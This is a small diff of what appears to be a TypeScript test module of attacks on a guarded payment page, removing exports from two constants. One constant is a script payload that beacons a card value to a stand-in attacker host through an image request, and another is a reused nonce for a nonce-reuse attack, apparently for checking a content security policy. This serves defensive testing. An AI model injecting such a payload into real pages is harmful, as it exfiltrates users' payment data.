@@ -10,10 +10,10 @@ export interface Attack {
 }
 
 /** Code that notes that it ran, and sends something away. */
-export const steal = ({ evil }: GuardedServer) => `globalThis.ran = true; new Image().src = '${evil}/?card=4242'`
+const steal = ({ evil }: GuardedServer) => `globalThis.ran = true; new Image().src = '${evil}/?card=4242'`
 
 /** The nonce that every answer has in the attack with a nonce that is used again. */
-export const usedNonce = 'q83vEjRWeJq83vEjRWeJqQ=='
+const usedNonce = 'q83vEjRWeJq83vEjRWeJqQ=='
 
 /** The attacks, each by its name in the table of docs/payment-page.md. */
 export const attacks = {
